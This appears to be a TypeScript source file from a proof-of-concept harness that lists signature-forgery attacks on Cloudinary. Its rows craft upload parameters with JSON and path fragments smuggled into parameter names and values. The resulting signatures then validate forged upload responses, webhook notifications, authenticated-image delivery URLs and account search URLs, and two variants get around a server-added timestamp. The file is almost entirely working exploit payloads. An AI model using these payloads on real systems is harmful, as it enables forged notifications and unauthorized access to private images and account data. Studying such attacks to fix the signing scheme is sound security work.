// Signatures that are asked for as an upload's, and are valid where Cloudinary itself signs, or takes an address:
// its answers, its notifications, delivery URLs and search URLs. Two of them work around a timestamp that the server adds.

import type { Attack } from "./attack.ts";
import { asDelivery, asNotification, asResponse, asSearch, searchText } from "./proofs.ts";

type Row = Omit<Attack, "kind">;

const ROWS: readonly Row[] = [
  {
    id: "response",
    title: "forge Cloudinary's answer to an upload",
    ask: (public_id, now) => ({ public_id, version: now }),
    timestamp: "none",
    proof: asResponse,
  },
  {
    id: "notification",
    title: "forge a notification (webhook) of Cloudinary",
    ask: (victim, now) => ({ [`{"notification_type":"upload","public_id":"${victim}","x":"`]: `"}${now}` }),
    timestamp: "none",
    proof: asNotification,
  },
  {
    // The blank sorts the name before all others, and `zz` stands behind `timestamp`.
    id: "notification-around",
    title: "forge a notification (webhook) around a timestamp that the server adds",
    ask: (victim, now) => ({
      [` {"notification_type":"upload","public_id":"${victim}","x":"`]: "1",
      zz: `"}${now}`,
    }),
    timestamp: "any",
    proof: asNotification,
  },
  {
    id: "delivery",
    title: "see an authenticated image by a forged signed delivery URL",
    ask: (victim) => ({ "l_text:Arial_10:a": `b/${victim}` }),
    timestamp: "none",
    proof: asDelivery,
  },
  {
    id: "delivery-around",
    title: "see an authenticated image by a delivery URL forged around a timestamp",
    ask: (victim) => ({ "l_text:Arial_10:a": "b", zz: `c/${victim}` }),
    timestamp: "any",
    proof: asDelivery,
  },
  {
    id: "search",
    title: "search the account by a forged signed search URL",
    ask: (victim) => ({ [searchText(victim).slice(0, -2)]: "=" }),
    timestamp: "none",
    algorithm: "sha256",
    proof: asSearch,
  },
];

export const FORGED_TEXTS: readonly Attack[] = ROWS.map((row) => ({ ...row, kind: "forgery" }));
